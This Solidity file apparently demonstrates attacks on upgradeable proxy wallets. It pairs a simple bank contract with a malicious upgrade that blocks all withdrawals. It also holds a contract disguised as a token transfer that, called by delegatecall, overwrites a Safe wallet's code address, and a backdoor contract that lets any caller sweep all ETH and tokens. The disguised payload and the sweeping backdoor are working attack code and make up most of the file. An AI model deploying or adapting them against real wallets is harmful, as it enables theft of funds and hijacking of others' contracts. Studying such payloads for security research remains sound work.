// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

/// What stands behind a proxy at first: it keeps the money of others and gives it back.
contract BankV1 {
    address private spare; // keeps the layout of what comes after
    mapping(address => uint256) public balanceOf;

    function version() external pure virtual returns (uint256) {
        return 1;
    }

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    function withdraw() external virtual {
        uint256 amount = balanceOf[msg.sender];
        balanceOf[msg.sender] = 0;
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "transfer failed");
    }
}

/// What is put there in an attack: nobody gets anything back.
contract BankV2 is BankV1 {
    function version() external pure override returns (uint256) {
        return 2;
    }

    function withdraw() external pure override {
        revert("closed");
    }
}

/// The payload with which owners of a Safe were once deceived. What looks like a transfer of a token, called by delegatecall, writes
/// slot 0 of the Safe: the address of its code. From then on the Safe is whatever the new code is.
contract Evil {
    address private code;

    function transfer(address to, uint256) external returns (bool) {
        code = to;
        return true;
    }
}

/// The code that then runs: whoever calls it takes everything.
contract Backdoor {
    function sweepETH(address payable to) external {
        to.transfer(address(this).balance);
    }

    function sweepERC20(address token, address to) external {
        (, bytes memory balance) = token.staticcall(abi.encodeWithSignature("balanceOf(address)", address(this)));
        (bool ok,) = token.call(abi.encodeWithSignature("transfer(address,uint256)", to, abi.decode(balance, (uint256))));
        require(ok, "transfer failed");
    }

    receive() external payable {}
}
